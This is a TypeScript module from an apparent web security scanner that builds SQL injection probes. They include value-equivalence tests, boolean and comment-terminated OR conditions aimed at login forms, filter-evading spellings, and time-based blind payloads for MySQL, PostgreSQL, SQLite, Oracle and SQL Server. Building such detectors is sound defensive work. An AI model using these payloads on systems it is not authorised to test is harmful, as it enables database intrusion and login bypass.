import { freshFiller } from '../crawl/fillers.ts';
import { type Evidence, filled } from '../evidence.ts';
import type { Database } from './error-texts.ts';
import { randomBetween } from './trial.ts';

/**
 * Spellings of SQL for each place where a value may stand. In a request that may write, a spelling does no more to other
 * rows than another plain value in the same field: it adds no condition that holds, and cuts no condition off.
 */

/** Values that a database reads as the value itself, and others that differ from them in one sign and are broken. */
export interface Equivalence {
  readonly context: Evidence;
  /** Two spellings of the same value. */
  readonly same: readonly [string, string];
  /** The same signs, broken. */
  readonly broken: readonly [string, string];
  /** The second way: a function of SQL in the same place, and one that does not exist. */
  readonly known: readonly string[];
  readonly unknown: readonly string[];
  /** In a short scan it is tried only where the answer says that a statement failed. */
  readonly needsMessage?: boolean;
  /** Other languages read it alike: without the function it says nothing. */
  readonly needsFunction?: boolean;
  /** Everything that calculates reads it alike: only the function, a word of SQL or a message of a database says that it is SQL. */
  readonly isSum?: boolean;
  /** Tried only where an earlier spelling was answered neither as usual nor as a broken one: something refuses it. */
  readonly ifRefused?: boolean;
  /** Tried only where any other word is answered as a broken value: there is no such name. */
  readonly ifOthersFail?: boolean;
  /** The quote that it ends, where a shell reads quotes side by side as nothing. */
  readonly quote?: string;
}

const LETTERS = 'bcdfghjkmnpqrstvwxz';
const randomLetter = () => LETTERS.charAt(randomBetween(0, LETTERS.length - 1));

/**
 * Where MySQL reads || as OR, a second half that begins with a number would hold for every row, also in an UPDATE: only
 * one that begins with a letter, and so counts as zero, is split off.
 */
function halves(value: string, at: number): readonly [string, string] {
  return /^\p{L}/u.test(value.slice(at)) ? [value.slice(0, at), value.slice(at)] : [value, ''];
}

/** How two halves of a string are joined. */
type Join = '||' | ' ' | '+' | '/**/' | 'guarded';

/**
 * MySQL and MariaDB, which read || as OR and would store or select something else, cast nothing to this type, and fail.
 * Databases that join strings by || know it; TEXT is unknown to Oracle, DB2 and Derby, and MariaDB casts to VARCHAR.
 * Without a blank, which fields for addresses refuse.
 */
const castToText = (text: string) => `||CAST(${text}AS/**/CHARACTER/**/VARYING(9))||`;

function inString(value: string, quote: string, operator: Join, atEnd = false): Equivalence {
  const anywhere = () => (atEnd ? value.length : randomBetween(1, Math.max(1, value.length - 1)));
  const [a, b] = halves(value, anywhere());
  const [c, d] = halves(value, anywhere());
  const isGuarded = operator === 'guarded';
  const between = isGuarded ? castToText(`${quote}${quote}`) : operator;
  const join = (left: string, right: string) =>
    `${left}${`${quote}${between}${quote}`.repeat(randomBetween(1, 3))}${right}`;
  const letter = randomLetter();
  const joined = (name: string) => {
    const called = `${name}(${quote}${quote})`;
    return `${a}${quote}${isGuarded ? castToText(called) : `${operator}${called}${operator}`}${quote}${b}`;
  };
  const compared = (name: string) =>
    `${value}${quote}AND(${name}(${quote}${letter.toUpperCase()}${quote}))=${quote}${letter}`;
  // In a pattern a wild card stands before the last quote.
  const liked = (name: string) =>
    `${value}%${quote}AND(${name}(${quote}${letter.toUpperCase()}${quote}))LIKE${quote}${letter}`;
  /** One more of a list. */
  const listed = (name: string) => `${value}${quote},${name}(${quote}${value}${quote}),${quote}${value}`;
  // Without white space and words, which filters take out.
  const signed = (name: string) =>
    `${value}${quote}&&(${name}(${quote}${letter.toUpperCase()}${quote}))=${quote}${letter}`;
  // Where a new value is written and not compared, a strict database reads no text as a number: LIKE alone does with text.
  const written = (name: string) =>
    `${value}${quote} LIKE ${name}(${quote}${letter.toUpperCase()}${quote}) LIKE ${quote}${letter}`;
  const spellings = operator === ' ' ? [compared, liked, written, listed] : operator === '/**/' ? [signed] : [joined];
  return {
    quote,
    context:
      quote === "'"
        ? { it: 'una stringa tra apici', en: 'a string in single quotes' }
        : { it: 'una stringa tra virgolette doppie', en: 'a string in double quotes' },
    same: [join(a, b), operator === ' ' ? join(c, d) : join(join(c, ''), d)],
    broken: [`${join(a, b)}${quote}`, `${join(c, d)}${quote}`],
    known: spellings.map((spell) => spell('LOWER')),
    unknown: spellings.map((spell) => spell('LOWRE')),
    // One of them serves inside of functions, where conditions do not.
    needsMessage: operator !== '||' && !isGuarded,
  };
}

/** The number written with SQL keywords, for filters that refuse functions, and the same misspelt as the broken control. */
const chosen = (number: number, word = 'CASE') => `(${word} WHEN ${number}=${number} THEN ${number} ELSE 0 END)`;
const chosenBroken = (number: number) => chosen(number, 'CSAE');

/** Of a list of numbers the last one. */
function asNumber(value: string): Equivalence {
  const before = value.slice(0, value.lastIndexOf(',') + 1);
  const number = Number(value.slice(before.length));
  const [r, s] = [randomBetween(31, 97), randomBetween(101, 199)];
  const minus = (more: number, rest: string) => `${before}${number + more}-${rest}`;
  return {
    context:
      before === '' ? { it: 'un numero', en: 'a number' } : { it: 'un elenco di numeri', en: 'a list of numbers' },
    same: [minus(r, `${r}`), minus(s, `${s}`)],
    broken: [minus(r, `${r}-`), minus(s, `${s}-`)],
    known: [minus(r, `ABS(${r})`), minus(r, chosen(r))],
    unknown: [minus(r, `ABZ(${r})`), minus(r, chosenBroken(r))],
    isSum: true,
  };
}

/** One with a decimal point or a sign, from which nothing is taken away: a sum would round it. */
function asDecimal(value: string): Equivalence {
  const [r, s] = [randomBetween(31, 97), randomBetween(101, 199)];
  const minus = (one: string, other: string) => `${value}-(${one}-${other})`;
  return {
    context: { it: 'un numero', en: 'a number' },
    same: [minus(`${r}`, `${r}`), minus(`${s}`, `${s}`)],
    broken: [minus(`${r}`, `${r}-`), minus(`${s}`, `${s}-`)],
    known: [minus(`ABS(${r})`, `${r}`), minus(chosen(r), `${r}`)],
    unknown: [minus(`ABZ(${r})`, `${r}`), minus(chosenBroken(r), `${r}`)],
    isSum: true,
  };
}

const DECIMAL = /^-?\d{1,9}\.\d{1,9}$|^-\d{1,9}$/;

/** Without minus, blank and quote, which filters take out. */
function asProduct(value: string): Equivalence {
  const [r, s] = [randomBetween(31, 97), randomBetween(101, 199)];
  return {
    context: { it: 'un numero', en: 'a number' },
    same: [`${value}*(${r}=${r})`, `${value}*(${s}=${s})`],
    broken: [`${value}*(${r}=${r}`, `${value}*(${s}=${s}`],
    known: [`${value}*(ABS(${r})=${r})`],
    unknown: [`${value}*(ABZ(${r})=${r})`],
    needsFunction: true,
    needsMessage: true,
  };
}

/** After LIMIT, where no database but some takes a sum: a word of SQL takes the place of the function. */
function asRowCount(value: string): Equivalence {
  return {
    context: 'LIMIT',
    same: [`${value} OFFSET 0`, `${value} offset 0`],
    broken: [`${value} OFSFET 0`, `${value} OFFSET 0 0`],
    known: [`${value} OFFSET 0`],
    unknown: [`${value} OFFSTE 0`],
  };
}

const COUNT_NAME = /limit|count|max|top$|^n$|num|size|per_?page|rows|first|quant|anzahl|nombre|cantidad/i;

/** The name of a column or of a table, as an expression of its own; of a list of columns the last one. */
function asName(value: string): Equivalence {
  const before = value.slice(0, value.lastIndexOf(',') + 1);
  const name = value.slice(before.length).trim();
  const spellings = [
    (word: string) => `${before}${word}(${name},1)`,
    (word: string) => `(${word === 'COALESCE' ? 'SELECT' : 'SELCET'}*FROM ${name})q`,
  ].slice(0, before === '' ? 2 : 1);
  return {
    context:
      before === ''
        ? { it: 'il nome di una colonna o di una tabella', en: 'the name of a column or a table' }
        : { it: 'un elenco di colonne', en: 'a list of columns' },
    same: [`${before}(${name})`, `${before}((${name}))`],
    broken: [`${before}(${name}`, `${before}((${name})`],
    known: spellings.map((spell) => spell('COALESCE')),
    unknown: spellings.map((spell) => spell('COALECSE')),
    needsFunction: true,
    ifOthersFail: true,
    needsMessage: true,
  };
}

/** A date without quotes is a number less two others. */
function asUnquotedDate(value: string): Equivalence {
  const [r, s] = [randomBetween(31, 97), randomBetween(101, 199)];
  const plus = (more: number, less: string) => `${value}+${more}-${less}`;
  return {
    context: 'a date without quotes',
    same: [plus(r, `${r}`), plus(s, `${s}`)],
    broken: [plus(r, `${r}-`), plus(s, `${s}-`)],
    known: [plus(r, `ABS(${r})`), plus(r, chosen(r))],
    unknown: [plus(r, `ABZ(${r})`), plus(r, chosenBroken(r))],
    isSum: true,
  };
}

const UNQUOTED_DATE = /^\d{4}-\d{1,2}-\d{1,2}$/;

/** After ORDER BY: one more column by its number, which must exist. */
function asOrder(value: string): Equivalence {
  return {
    context: 'ORDER BY',
    same: [`${value},1`, `${value},1,1`],
    broken: [`${value},${randomBetween(5_000, 9_000)}`, `${value},1,${randomBetween(10_000, 20_000)}`],
    known: [`${value},ABS(1)`],
    unknown: [`${value},ABZ(1)`],
  };
}

function asQuotedName(value: string): Equivalence {
  return {
    context: { it: 'un nome tra virgolette', en: 'a quoted name' },
    same: [`${value}\`,\`${value}`, `${value}\`,ABS(1),\`${value}`],
    broken: [`${value}\`,\`${value}\``, `${value}\`,,\`${value}`],
    known: [`${value}\`,ABS(1),\`${value}`],
    unknown: [`${value}\`,ABZ(1),\`${value}`],
  };
}

const ORDER_NAME = /sort|order|dir|col|by$|asc|desc|ordin/i;

/**
 * Most likely first. To MySQL a sum of strings is the number 0, which equals every text, and || is OR, which holds for
 * every row if a number follows: both are tried only where more rows change nothing. So are lists: `IN (7,1)` is one row more.
 */
export function equivalencesOf(
  value: string,
  name: string,
  mayWiden: boolean,
  /** The value is extended, and stays as it is before: programs cut off the beginning of some. */
  atEnd = false,
): readonly Equivalence[] {
  const joins: readonly Join[] = mayWiden ? ['||', ' ', '+'] : ['guarded', ' '];
  const strings = joins.map((operator) => inString(value, "'", operator, atEnd));
  const found: Equivalence[] = /^(?:\d{1,9},){0,50}\d{1,9}$/.test(value) ? [asNumber(value), ...strings] : strings;
  if (/^\d{1,9}$/.test(value)) {
    // A higher row count reaches more rows as well.
    found.push(...(mayWiden && COUNT_NAME.test(name) ? [asRowCount(value)] : []), asProduct(value));
  }
  if (UNQUOTED_DATE.test(value)) found.unshift(asUnquotedDate(value));
  if (DECIMAL.test(value)) found.unshift(asDecimal(value));
  const doubled = joins.slice(0, 2).map((operator) => inString(value, '"', operator, atEnd));
  if (!mayWiden) return [...found, ...doubled];
  if (/^[a-z_][\w.]{0,60}(?: (?:asc|desc))?$/i.test(value)) {
    if (ORDER_NAME.test(name) || /^(?:asc|desc)$/i.test(value)) found.unshift(asOrder(value));
    else found.push({ ...asOrder(value), needsMessage: true });
  } else if (ORDER_NAME.test(name)) found.push(asOrder(value));
  found.push(...doubled);
  if (/^(?:[a-z_]\w{0,60}, ?){0,20}[a-z_]\w{0,60}$/i.test(value)) found.push(asName(value));
  found.push({ ...inString(value, "'", '/**/', atEnd), ifRefused: true });
  if (ORDER_NAME.test(name)) found.push(asQuotedName(value));
  return found;
}

/** A condition that holds or not, written behind the value. */
export interface Condition {
  readonly context: Evidence;
  /** Plain: compares two letters or numbers. */
  plain(holds: boolean): string;
  /** The second way: with a function that only SQL has. */
  withFunction(holds: boolean): string;
}

const letters = (holds: boolean): readonly [string, string] => {
  const one = randomLetter();
  if (holds) return [one, one];
  const other = LETTERS.charAt((LETTERS.indexOf(one) + randomBetween(1, LETTERS.length - 1)) % LETTERS.length);
  return [one, other];
};

function quotedCondition(value: string, word: 'AND' | 'OR', { quote = "'", like = false }): Condition {
  // No white space, which many filters take out: quotes and brackets end the words as well.
  const compare = like ? 'LIKE' : '=';
  const open = `${value}${like ? '%' : ''}${quote}${word}`;
  // The statement's own quote closes the last string.
  const written = (holds: boolean, first: (letter: string) => string) => {
    const [a, b] = letters(holds);
    return `${open}${first(a)}${compare}${quote}${b}`;
  };
  return {
    context: filled(
      { it: 'una stringa ({condition})', en: 'a string ({condition})' },
      { condition: `${open.slice(value.length).trim()} …` },
    ),
    plain: (holds) => written(holds, (letter) => `${quote}${letter}${quote}`),
    withFunction: (holds) => written(holds, (letter) => `(LOWER(${quote}${letter.toUpperCase()}${quote}))`),
  };
}

/**
 * For logins, where more conditions follow: a comment leaves them out. Ends a string in single quotes; in double quotes
 * all of that is text, and the second half ends the string.
 */
function commentedCondition(value: string, { brackets = '', rest = '' }): Condition {
  const written = (holds: boolean, first: (letter: string, quote: string) => string) => {
    const [a, b] = letters(holds);
    const [single, double] = ["'", '"'].map(
      (quote) => `${quote}${brackets} OR ${first(a, quote)}=${quote}${b}${quote}${rest} -- `,
    );
    return `${value}${single}${double}`;
  };
  return {
    context: filled({ it: 'una stringa (OR{end})', en: 'a string (OR{end})' }, { end: `${brackets}${rest} …--` }),
    plain: (holds) => written(holds, (letter, quote) => `${quote}${letter}${quote}`),
    withFunction: (holds) => written(holds, (letter, quote) => `LOWER(${quote}${letter.toUpperCase()}${quote})`),
  };
}

function numberCondition(value: string, word: 'AND' | 'OR'): Condition {
  const pair = (holds: boolean): readonly [number, number] => {
    const one = randomBetween(10, 90);
    return [one, holds ? one : one + randomBetween(1, 9)];
  };
  return {
    context: filled({ it: 'un numero ({word})', en: 'a number ({word})' }, { word }),
    plain: (holds) => {
      const [a, b] = pair(holds);
      return `${value} ${word} ${a}=${b}`;
    },
    withFunction: (holds) => {
      const [a, b] = pair(holds);
      return `${value} ${word} ABS(-${a})=${b}`;
    },
  };
}

const commented = ({ context, plain, withFunction }: Condition): Condition => ({
  context,
  plain: (holds) => `${plain(holds)} -- `,
  withFunction: (holds) => `${withFunction(holds)} -- `,
});

/** Behind half a character, which stands as the sign of a broken one until it is sent; without any other quote. */
export function halfCharacterConditions(value: string): readonly Condition[] {
  return ['', ')'].map((brackets) => commented(numberCondition(`${value}\uFFFD'${brackets}`, 'OR')));
}

/** Conditions that keep what the value selects, or select nothing. */
export function narrowingConditions(value: string): readonly Condition[] {
  const strings = [quotedCondition(value, 'AND', {}), quotedCondition(value, 'AND', { like: true })];
  return /^-?\d{1,12}(?:\.\d{1,6})?$/.test(value) ? [numberCondition(value, 'AND'), ...strings] : strings;
}

/**
 * A value of the same kind that is nowhere: one that finds something is answered alike whether a condition beside it
 * holds or not.
 */
export function absentValue(value: string, token: string): string {
  if (/^-?\d{1,12}$/.test(value)) return `-${randomBetween(700_000_000, 1_900_000_000)}`;
  const fresh = freshFiller(value, token);
  return fresh === value ? token : fresh;
}

/** Conditions that select everything, or what the value selects. Only where that changes nothing. */
export function wideningConditions(value: string, signsIn: boolean): readonly Condition[] {
  const strings = [
    quotedCondition(value, 'OR', {}),
    quotedCondition(value, 'OR', { quote: '"' }),
    commentedCondition(value, {}),
    commentedCondition(value, { brackets: ')' }),
    // Many logins want one user to be found, and no more.
    ...(signsIn
      ? [commentedCondition(value, { brackets: '))' }), commentedCondition(value, { rest: ' LIMIT 1' })]
      : []),
  ];
  if (!/^-?\d{1,12}$/.test(value)) return strings;
  const number = numberCondition(value, 'OR');
  return signsIn ? [commented(number), ...strings] : [number, ...strings];
}

/** Waits of a number of seconds, by database; each runs once, whatever the number of rows. */
export interface Wait {
  readonly database: Database;
  /** It cuts off the rest of the statement: of an UPDATE that would be the condition. */
  readonly cuts?: boolean;
  readonly context: Evidence;
  /** How long a second is to this one is not known: it works instead of sleeping. */
  readonly works?: boolean;
  of(seconds: number): string;
}

/** Without a blank, which fields for addresses refuse. */
const mysqlWait = (seconds: number, result: number) => `(SELECT(${result})FROM(SELECT(SLEEP(${seconds})))q)`;
/** A number that no row has. */
const NOWHERE = 1_913_374_211;

const SUBQUERIES: ReadonlyArray<readonly [Database, (seconds: number) => string, works?: boolean]> = [
  ['mysql', (n) => mysqlWait(n, 0)],
  ['postgresql', (n) => `(SELECT 0 FROM pg_sleep(${n}))`],
  [
    'sqlite',
    (n) =>
      `(WITH RECURSIVE q(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM q WHERE x<${1 + n * 2_000_000}) SELECT CAST(0 AS TEXT) FROM (SELECT count(*) FROM q))`,
    true,
  ],
  ['oracle', (n) => `(SELECT DBMS_PIPE.RECEIVE_MESSAGE('q',${n === 0 ? 0.01 : n})-1 FROM DUAL)`],
];

/**
 * For the password of a sign-in. A statement that compares the name first skips the password if the name is unknown, so the
 * payload adds an OR condition that is evaluated for any name. It is always false: it signs nobody in.
 */
export function waitsAtPassword(value: string): readonly Wait[] {
  const context: Evidence = { it: 'una condizione accanto alla password', en: 'a condition beside the password' };
  return SUBQUERIES.slice(0, 3).map(([database, of, works = false]) => {
    // To MySQL || is OR, and every text a 0.
    const compared = (seconds: number) => (database === 'mysql' ? mysqlWait(seconds, NOWHERE) : `''||${of(seconds)}`);
    return { database, context, works, of: (seconds) => `${value}' OR ${compared(seconds)}='q` };
  });
}

/** Most common databases first, each in both places. */
export function waitsAt(value: string): readonly Wait[] {
  const isNumber = /^-?\d{1,12}$/.test(value) || DECIMAL.test(value) || UNQUOTED_DATE.test(value);
  const at = (context: Evidence, isIn: (wait: string) => string, before: string): readonly Wait[] => [
    ...SUBQUERIES.map(([database, of, works = false]): Wait => ({ database, context, works, of: (n) => isIn(of(n)) })),
    { database: 'mssql', context, cuts: true, of: (n) => `${before};WAITFOR DELAY '0:0:${n}'--` },
  ];
  // An e-mail address stays one in its form.
  const [, name = value, domain = ''] = /^([\w.+-]+)(@[\w.-]+)$/.exec(value) ?? [];
  const strings = at({ it: 'una stringa', en: 'a string' }, (wait) => `${name}'||${wait}||'${domain}`, `${value}'`).map(
    (wait) =>
      // MySQL reads || as OR. A number of its own instead makes the whole a value that is nowhere, whatever text follows.
      wait.database === 'mysql' ? { ...wait, of: (n: number) => `${name}'-${mysqlWait(n, NOWHERE)}-'${domain}` } : wait,
  );
  if (!isNumber) return strings;
  const numbers = at({ it: 'un numero', en: 'a number' }, (wait) => `${value}-${wait}`, value);
  return numbers.flatMap((wait, place) => [wait, ...strings.slice(place, place + 1)]);
}
